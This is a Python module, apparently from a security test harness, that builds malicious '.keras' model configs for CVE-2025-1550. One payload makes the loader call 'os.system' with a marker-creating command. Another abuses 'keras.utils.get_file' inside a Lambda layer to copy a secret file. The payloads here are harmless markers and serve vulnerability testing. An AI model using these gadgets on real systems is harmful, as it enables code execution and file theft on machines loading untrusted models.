"""Name any module and function in a `.keras` config (CVE-2025-1550, -8747), to import and call."""

from __future__ import annotations

from _run import Place, Variant, main
from lambda_in_keras import four, keras_file, model


def system(place: Place) -> dict:
    """`os.system` as a class that is made from its config."""
    return {"module": "os", "class_name": "system", "config": {"command": f"touch {place.marker}"}}


def gadget(place: Place) -> dict:
    """A Keras function that writes a file: allowed once, as its module begins with `keras.`."""
    target = {
        "fname": place.marker.name,
        "origin": place.secret.as_uri(),
        "cache_dir": str(place.marker.parent),
    }
    function = {
        "module": "keras.utils",
        "class_name": "function",
        "config": "get_file",
        "registered_name": "function",
    }
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"function": function, "arguments": target},
    }


VARIANTS: list[Variant] = [
    *four("os.system in .keras", lambda p: keras_file(model(system(p)))),
    *four("keras.utils.get_file in .keras", lambda p: keras_file(model(gadget(p)))),
]

if __name__ == "__main__":
    main(__doc__, VARIANTS)
